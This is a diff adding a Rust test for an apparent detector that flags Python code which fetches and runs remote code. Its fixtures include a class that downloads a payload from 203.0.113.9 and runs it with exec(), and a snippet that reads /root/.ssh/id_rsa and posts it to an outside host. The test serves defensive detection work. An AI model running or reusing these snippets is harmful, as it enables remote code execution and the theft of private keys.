@@ -145,3 +145,23 @@ fn folders_of_people_that_are_deleted_and_pages_that_run_what_is_sent() {
         ],
     );
 }
+
+#[test]
+fn a_body_that_begins_with_a_text_goes_on_behind_it() {
+    let class = "import urllib.request\nclass R:\n    DOC\n    at = 'http://203.0.113.9/u'\n\n    def load(self, u):\n        DOC\n        exec(urllib.request.urlopen(u + '/x').read())\n\n    def go(self):\n        self.load(self.at)\n";
+    for doc in [
+        "'Less.'",
+        "\"\"\"Less.\"\"\"",
+        "\"\"\"\n    Less\n    and more.\n    \"\"\"",
+        "f'{__name__}'",
+        "r'a\\nb'",
+    ] {
+        all_are(Dialect::Python, Rule::FetchRun, &[&class.replace("DOC", doc)]);
+    }
+    all_are_honest(
+        Dialect::Python,
+        &[
+            "def f(k):\n    'Text.'\n    return 1\nk = open('/root/.ssh/id_rsa').read()\ndef post(k):\n    'Posts.'\n    import requests\n    requests.post('https://api.example.invalid', data=k)\npost('a')\n",
+        ],
+    );
+}
